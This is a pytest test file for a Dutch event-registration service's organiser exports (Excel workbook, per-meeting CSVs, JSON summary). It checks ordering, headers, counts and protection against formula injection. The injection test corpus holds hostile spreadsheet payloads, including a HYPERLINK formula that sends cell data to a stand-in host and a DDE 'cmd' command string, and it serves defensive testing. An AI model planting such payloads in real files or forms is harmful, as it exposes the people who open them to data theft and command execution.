"""Organiser exports: the right rows in the right order, Dutch headers, and files that are safe to open."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from dataclasses import dataclass
from typing import Any

import boto3
import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from praatmee import export_texts, exports, service, texts, workbook
from praatmee.bucket import ExportBucket
from praatmee.edition import Edition, Sector
from praatmee.models import RegistrationStatus
from praatmee.table import ExportRecord, NewRegistration, exported
from tests.fixtures import Clock, sign_up, sign_up_unconfirmed

BUCKET = "praatmee-test-exports"
NOW = dt.datetime(2027, 2, 1, 5, 0, tzinfo=dt.UTC)
CAPACITY = 2


@dataclass
class Opened:
    """An export read back from the bucket as an organiser would open it."""

    folder: str
    keys: list[str]
    workbook: openpyxl.Workbook
    csv_text: dict[str, str]
    summary: dict[str, Any]

    def sheet_rows(self, title: str) -> list[list[Any]]:
        return [[cell.value for cell in row] for row in self.workbook[title].iter_rows()]

    def csv_rows(self, meeting_id: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.csv_text[meeting_id], newline=""), delimiter=";"))


def open_export(bucket: ExportBucket, folder: str) -> Opened:
    keys = [o.key for o in bucket.objects(folder)]
    workbook = openpyxl.load_workbook(io.BytesIO(bucket.read(folder + exports.WORKBOOK)))
    raw = {
        key.rsplit("/", 1)[1].removesuffix(".csv"): bucket.read(key) for key in keys if key.endswith(".csv")
    }
    for content in raw.values():
        assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, or Excel breaks the accents"
    csv_text = {name: content.decode("utf-8-sig") for name, content in raw.items()}
    summary = json.loads(bucket.read(folder + exports.SUMMARY))
    return Opened(folder, keys, workbook, csv_text, summary)


@pytest.fixture
def bucket(store: Any) -> ExportBucket:
    """The export bucket on moto (inside the `store` fixture's `mock_aws`)."""
    bucket = ExportBucket(BUCKET, boto3.client("s3", region_name="eu-west-1"))
    bucket.create("eu-west-1")
    return bucket


def sign_up_a_minute_later(ctx: service.Context, clock: Clock, **changes: Any) -> service.Registered:
    clock.now += dt.timedelta(minutes=1)  # each a minute later, so the order of sign-up is known
    return sign_up(ctx, **changes)


@pytest.fixture
def known(ctx: service.Context, clock: Clock, edition: Edition) -> dict[str, list[str]]:
    """Every meeting with two seats and every status: per meeting the names in the expected sheet order.

    A and B take the seats, C, D and E wait, P (a pupil under 16) waits for consent, then A cancels, so C
    moves up: placed B, C; waiting list D, E; pending P; cancelled A.
    """
    expected = {}
    for meeting in edition.meetings:
        ctx.store.set_capacity(meeting.id, CAPACITY)
        sector = next(s for s in Sector if s in meeting.audience).value
        registered = {}
        for letter in "ABCDE":
            registered[letter] = sign_up_a_minute_later(
                ctx,
                clock,
                meeting=meeting.id,
                sector=sector,
                name=f"{letter} {meeting.title}",
                email=f"{letter.lower()}.{meeting.id}@example.org",
                role="leraar" if letter in "AB" else "ouder",
                themes=["dyslexie", "leergedrag"] if letter == "B" else ["hoogbegaafdheid"],
            )
        pupil = sign_up_a_minute_later(
            ctx,
            clock,
            meeting=meeting.id,
            sector=sector,
            name=f"P {meeting.title}",
            email=f"p.{meeting.id}@example.org",
            role="leerling",
            under_16=True,
            guardian={"name": "Ouder van P", "email": f"ouder.{meeting.id}@example.org", "consent": True},
        )
        assert pupil.answer.status is RegistrationStatus.PENDING_GUARDIAN
        first = registered["A"]
        assert first.cancel_token is not None
        service.cancel_registration(ctx, first.answer.id, first.cancel_token)
        expected[meeting.id] = [f"{letter} {meeting.title}" for letter in "BCDEP"]
    return expected


@pytest.fixture
def opened(ctx: service.Context, bucket: ExportBucket, known: dict[str, list[str]]) -> Opened:
    export = exports.run_export(ctx.store, bucket, ctx.edition, NOW)
    return open_export(bucket, export.folder)


# -- rows, order, counts, headers ---------------------------------------------------------------------------


def test_an_export_is_one_workbook_a_csv_per_meeting_and_a_summary_under_a_time_prefix(
    opened: Opened, edition: Edition
) -> None:
    # Given registrations in every status at every meeting (fixture `known`), when exported,
    # then the files sit under exports/<UTC time>/ and no key holds anything about a person
    assert opened.folder == "exports/2027-02-01T050000Z/"
    names = sorted(key.removeprefix(opened.folder) for key in opened.keys)
    assert names == sorted(
        [exports.WORKBOOK, exports.SUMMARY, *(f"{meeting.id}.csv" for meeting in edition.meetings)]
    )


def test_each_meeting_sheet_lists_placed_then_the_waiting_list_in_order_then_pending(
    opened: Opened, known: dict[str, list[str]], edition: Edition
) -> None:
    # When the workbook is opened, then every meeting has a sheet with Dutch headers and the known order
    assert opened.workbook.sheetnames == [export_texts.OVERVIEW_SHEET, *(m.title for m in edition.meetings)]
    for meeting in edition.meetings:
        header, *body = opened.sheet_rows(meeting.title)
        assert tuple(header) == export_texts.EXPORT_COLUMNS
        assert [row[2] for row in body] == known[meeting.id]
        assert [row[0] for row in body] == ["geplaatst", "geplaatst", "reservelijst", "reservelijst",
                                            "wacht op toestemming ouder"]  # fmt: skip
        assert [row[1] for row in body] == [None, None, 1, 2, None]
        first = dict(zip(header, body[0], strict=True))
        assert first["E-mailadres"] == f"b.{meeting.id}@example.org"
        assert first["Rol"] == "leraar"
        assert (
            first["Onderwerpen"]
            == "lezen, spelling en dyslexie; leergedrag (zoals concentratie, faalangst en plannen)"
        )
        assert first["Jonger dan 16"] == "nee"
        pupil = dict(zip(header, body[-1], strict=True))
        assert (pupil["Jonger dan 16"], pupil["Naam ouder of verzorger"]) == ("ja", "Ouder van P")
        assert pupil["E-mailadres ouder of verzorger"] == f"ouder.{meeting.id}@example.org"


def test_sign_up_times_are_real_dates_in_dutch_time(opened: Opened, edition: Edition) -> None:
    sheet = opened.workbook[edition.meetings[0].title]
    cell = sheet.cell(row=2, column=len(export_texts.EXPORT_COLUMNS))
    # B signed up two minutes after 12:00 UTC on 15 January: 13:02 in Amsterdam (winter time)
    assert cell.value == dt.datetime(2027, 1, 15, 13, 2)
    assert cell.is_date
    assert cell.number_format == workbook.DATE_TIME_FORMAT


def test_sheets_have_a_frozen_header_row_and_sensible_widths(opened: Opened) -> None:
    for sheet in opened.workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
        assert all(8 <= width <= workbook.MAX_WIDTH + 1 for width in widths), (sheet.title, widths)
        assert all(cell.font.bold for cell in next(sheet.iter_rows(max_row=1)) if cell.value)


def test_sheets_print_landscape_one_page_wide_with_the_header_on_every_page(opened: Opened) -> None:
    for sheet in opened.workbook.worksheets:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.page_setup.paperSize == 9, sheet.title  # A4
        assert sheet.sheet_properties.pageSetUpPr is not None
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        # One page wide (OOXML's default, which XlsxWriter leaves out), any number of pages tall
        assert sheet.page_setup.fitToWidth in (None, 1), sheet.title
        assert sheet.page_setup.fitToHeight == 0, sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title


def test_the_overview_counts_each_status_and_each_role_sector_and_theme(
    opened: Opened, edition: Edition
) -> None:
    rows = opened.sheet_rows(export_texts.OVERVIEW_SHEET)
    assert tuple(rows[0][: len(export_texts.OVERVIEW_COLUMNS)]) == export_texts.OVERVIEW_COLUMNS
    for number, meeting in enumerate(edition.meetings, start=1):
        title, day, capacity, applied, placed, waiting, unconfirmed, pending, cancelled = rows[number][:9]
        assert (title, day) == (meeting.title, dt.datetime.combine(meeting.date, dt.time()))
        assert (capacity, applied, placed, waiting, unconfirmed, pending, cancelled) == (
            (CAPACITY, 0, 2, 2, 0, 1, 1)
        )
    total = rows[len(edition.meetings) + 1]
    n = len(edition.meetings)
    assert total[0] == export_texts.OVERVIEW_TOTAL
    assert total[2:9] == [CAPACITY * n, 0, 2 * n, 2 * n, 0, n, n]
    by_label = {row[0]: row[1:] for row in rows if row[0]}
    # Not cancelled: B (leraar), C, D, E (ouder), P (leerling); A (leraar) cancelled and not counted
    assert by_label["leraar"][: n + 1] == [1] * n + [n]
    assert by_label["ouder of verzorger"][: n + 1] == [3] * n + [3 * n]
    assert by_label["leerling"][: n + 1] == [1] * n + [n]
    assert by_label["meer- en hoogbegaafdheid"][: n + 1] == [3] * n + [3 * n]
    assert by_label["lezen, spelling en dyslexie"][: n + 1] == [2] * n + [2 * n]
    assert by_label[texts.SECTOR_LABELS[Sector.VO]][0] == 5  # Noord's first eligible sector


def test_the_summary_holds_counts_and_no_personal_data(opened: Opened, edition: Edition) -> None:
    assert [m["id"] for m in opened.summary["meetings"]] == [m.id for m in edition.meetings]
    for meeting in opened.summary["meetings"]:
        assert meeting["capacity"] == CAPACITY
        assert (meeting["placed"], meeting["waitlisted"], meeting["pending_guardian"]) == (2, 2, 1)
        assert meeting["cancelled"] == 1
    assert "@" not in json.dumps(opened.summary)


def test_unconfirmed_sign_ups_are_only_counted_and_an_expired_one_not_at_all(
    bucket: ExportBucket, ctx: service.Context, clock: Clock
) -> None:
    # Given one person online who confirmed, one who signed up 30 hours before the export and never
    # confirmed (the window of 24 hours is over), and one who signed up an hour before it
    sign_up(ctx, name="Bevestigd Persoon", email="bevestigd@example.org")
    clock.now = NOW - dt.timedelta(hours=30)
    sign_up_unconfirmed(ctx, name="Verlopen Persoon", email="verlopen@example.org")
    clock.now = NOW - dt.timedelta(hours=1)
    sign_up_unconfirmed(ctx, name="Wachtend Persoon", email="wachtend@example.org")

    # When the export runs
    opened = open_export(bucket, exports.run_export(ctx.store, bucket, ctx.edition, NOW).folder)

    # Then the overview and the summary count the one still within the window
    column = export_texts.OVERVIEW_COLUMNS.index("Nog niet bevestigd")
    rows = opened.sheet_rows(export_texts.OVERVIEW_SHEET)
    online = next(row for row in rows if row[0] == ctx.edition.meeting("online").title)  # type: ignore[union-attr]
    assert online[column] == 1
    summary = {m["id"]: m for m in opened.summary["meetings"]}
    assert (summary["online"]["unconfirmed"], summary["online"]["placed"]) == (1, 1)
    # And no sheet or CSV file names either unconfirmed person; the one who confirmed is listed
    cells = [str(v) for sheet in opened.workbook for row in sheet.iter_rows(values_only=True) for v in row]
    everything = " ".join(cells) + " ".join(opened.csv_text.values())
    assert "Bevestigd Persoon" in everything
    for name in ("Verlopen", "Wachtend", "verlopen@", "wachtend@"):
        assert name not in everything


def test_each_csv_opens_in_dutch_excel_with_the_same_rows(
    opened: Opened, known: dict[str, list[str]], edition: Edition
) -> None:
    for meeting in edition.meetings:
        text = opened.csv_text[meeting.id]
        lines = text.split("\r\n")
        assert lines[0] == ";".join(export_texts.EXPORT_COLUMNS)
        assert lines[-1] == "", "every line ends with CRLF"
        assert "\n" not in text.replace("\r\n", "")
        _, *body = opened.csv_rows(meeting.id)
        assert [row[2] for row in body] == known[meeting.id]
        assert [row[1] for row in body] == ["", "", "1", "2", ""]
        sheet = opened.sheet_rows(meeting.title)[1:]
        assert [row[-1] for row in body] == [f"{row[-1]:%d-%m-%Y %H:%M}" for row in sheet]
        assert [row[:12] for row in body] == [
            ["" if v is None else str(v) for v in row[:12]] for row in sheet
        ]


def test_an_empty_table_still_gives_every_sheet_and_file(bucket: ExportBucket, ctx: service.Context) -> None:
    # Given no registrations yet, when exported, then every meeting has a sheet with only its header
    export = exports.run_export(ctx.store, bucket, ctx.edition, NOW)
    opened = open_export(bucket, export.folder)
    for meeting in ctx.edition.meetings:
        assert opened.sheet_rows(meeting.title) == [list(export_texts.EXPORT_COLUMNS)]
        assert opened.csv_rows(meeting.id) == [list(export_texts.EXPORT_COLUMNS)]


def test_the_lambda_handler_exports_with_only_table_and_bucket_settings(
    bucket: ExportBucket, known: dict[str, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given the export function's environment: a table and a bucket, no hash key, no site origin
    from praatmee.settings import get_export_settings

    monkeypatch.delenv("PRAATMEE_EMAIL_HASH_KEY")
    monkeypatch.delenv("PRAATMEE_SITE_ORIGIN")
    monkeypatch.setenv("PRAATMEE_EXPORT_BUCKET", BUCKET)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    get_export_settings.cache_clear()
    try:
        # When the schedule calls the handler
        answer = exports.lambda_handler({}, None)
    finally:
        get_export_settings.cache_clear()
    # Then it answers with counts only, and the files are in the bucket
    assert [m["placed"] for m in answer["meetings"]] == [2] * len(known)
    assert "@" not in json.dumps(answer)
    assert any(o.name == exports.WORKBOOK for o in bucket.objects(answer["folder"]))


def test_export_settings_refuse_a_missing_bucket_without_a_default(monkeypatch: pytest.MonkeyPatch) -> None:
    from praatmee.settings import ExportSettings, _load

    monkeypatch.setenv("PRAATMEE_TABLE_NAME", "praatmee-test")
    monkeypatch.delenv("PRAATMEE_EXPORT_BUCKET", raising=False)
    with pytest.raises(RuntimeError, match="PRAATMEE_EXPORT_BUCKET"):
        _load(ExportSettings)


def test_objects_are_written_with_server_side_encryption(opened: Opened, bucket: ExportBucket) -> None:
    for key in opened.keys:
        head = bucket.client.head_object(Bucket=bucket.name, Key=key)
        assert head.get("ServerSideEncryption") == "AES256", key


# -- formula injection ------------------------------------------------------------------------------------

PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A2;"klik")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]
NASTY = [
    'Jan "de" Vries',
    "a;b,c;d",
    "regel 1\nregel 2",
    "regel 1\r\nregel 2",
    "Zoë 👩\u200d👧 ✓",
    "محمد عبد الله",
    "\u202eexe.txt",
    "שלום",
    "  =1+1",
    "'al met apostrof",
    "http://evil.example/",
    "0612345678",
    "1-2-2027",
    "_x0041_",
]
CORPUS = [
    prefix + payload for prefix in ["=", "+", "-", "@", "\t", "\r", "\n"] for payload in PAYLOADS
] + NASTY
# Every column a person's data reaches (status, position and date come from us, never from a form).
TEXT_FIELDS = ("name", "email", "role", "sector", "organisation", "needs")


def corpus_records(edition: Edition) -> list[ExportRecord]:
    """The corpus as the store hands it to the export: each value in every field a person fills in."""
    records = []
    meeting = edition.meetings[0].id
    for number, value in enumerate(CORPUS):
        new = NewRegistration(
            id=f"{number:032x}",
            meeting=meeting,
            email_hash="h",
            fingerprint="f",
            token_hash="t",
            created_at=f"2027-01-15T12:{number % 60:02d}:00.000+00:00",
            expires_at=edition.expires_at,
            data={
                **dict.fromkeys(TEXT_FIELDS, value),
                "themes": [value],
                "under_16": True,
                "guardian": {"name": value, "email": value, "consent": True},
            },
        )
        records.append(exported(new.item(RegistrationStatus.PLACED)))
    return records


@pytest.fixture(scope="module")
def injected() -> tuple[exports.Export, Edition]:
    from praatmee.edition import load_edition

    edition = load_edition()
    return exports.build_export(edition, [corpus_records(edition)], NOW), edition


def test_no_workbook_cell_is_a_formula_or_a_link_and_each_reads_as_typed(
    injected: tuple[exports.Export, Edition],
) -> None:
    export, edition = injected
    content, _ = export.files[exports.WORKBOOK]
    # Then nothing in the file is a formula or a link, in the XML itself
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            xml = archive.read(name).decode("utf-8")
            for marker in ("<f>", "<f ", "<hyperlink", "relationships/hyperlink"):
                assert marker not in xml, (name, marker)
    # And re-opened, every text cell holds the literal value, as a string, quote-prefixed if it looks risky
    sheet = openpyxl.load_workbook(io.BytesIO(content))[edition.meetings[0].title]
    header = [cell.value for cell in sheet[1]]
    checked = 0
    for row, expected in zip(sheet.iter_rows(min_row=2), CORPUS, strict=True):
        cells = dict(zip(header, row, strict=True))
        for column in ("Naam", "E-mailadres", "Rol", "Soort onderwijs", "Onderwerpen",
                       "School of organisatie", "Wensen (eten, toegankelijkheid)",
                       "Naam ouder of verzorger", "E-mailadres ouder of verzorger"):  # fmt: skip
            cell = cells[column]
            assert cell.data_type == "s", (column, expected)
            assert cell.hyperlink is None
            # Excel decodes the _xHHHH_ escapes of control characters; openpyxl leaves that to us
            assert unescape(str(cell.value)) == expected, (column, expected)
            assert cell.quotePrefix == exports.starts_like_formula(expected), (column, expected)
            checked += 1
    assert checked == len(CORPUS) * 9


def test_no_csv_value_can_start_a_formula_and_each_reads_as_typed_or_with_an_apostrophe(
    injected: tuple[exports.Export, Edition],
) -> None:
    export, edition = injected
    content, _ = export.files[f"{edition.meetings[0].id}.csv"]
    header, *body = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    assert len(body) == len(CORPUS)
    ours = {
        "Status",
        "Plek op reservelijst",
        "Tweede keus",
        "Jonger dan 16",
        "E-mails niet verstuurd",
        "Aangemeld op",
    }
    person_columns = [i for i, title in enumerate(header) if title not in ours]
    assert len(person_columns) == 9
    for row, expected in zip(body, CORPUS, strict=True):
        for column in person_columns:
            value = row[column]
            assert not exports.starts_like_formula(value), (header[column], value)
            # A risky value reads with one leading apostrophe (what Excel shows too); every other as typed
            assert value == ("'" + expected if exports.starts_like_formula(expected) else expected)


def test_the_corpus_covers_every_dangerous_start() -> None:
    assert {value[0] for value in CORPUS} >= exports.FORMULA_STARTS


# -- the registration function stays light ------------------------------------------------------------------


def test_the_registration_function_never_loads_the_spreadsheet_writer() -> None:
    import subprocess
    import sys

    code = "import sys, praatmee.api; print('xlsxwriter' in sys.modules, 'praatmee.exports' in sys.modules)"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.split() == ["False", "False"]


def test_mails_that_could_not_be_sent_show_in_the_export(
    ctx: service.Context, clock: Clock, bucket: ExportBucket
) -> None:
    # Given a sign-up whose receipt SES refused twice
    registered = sign_up_a_minute_later(ctx, clock, meeting="online", email="onbereikbaar@example.org")
    for _ in range(2):
        ctx.store.release_mail(registered.answer.id, "receipt", "2027-02-01T05:00:00+00:00")

    # When organisers export
    export = exports.run_export(ctx.store, bucket, ctx.edition, NOW)
    opened = open_export(bucket, export.folder)

    # Then the sheet and the CSV say how many mails did not go out, so someone can follow up by hand
    column = export_texts.EXPORT_COLUMNS.index("E-mails niet verstuurd")
    online = next(m for m in ctx.edition.meetings if m.id == "online")
    assert opened.sheet_rows(online.title)[1][column] == 2
    assert opened.csv_rows("online")[1][column] == "2"


def test_a_row_has_exactly_one_field_per_column_header() -> None:
    # Given the columns an organiser sees, and the fields the export fills in
    # Then they pair up one to one, so no value lands under another column's header
    assert len(exports.Row._fields) == len(export_texts.EXPORT_COLUMNS)
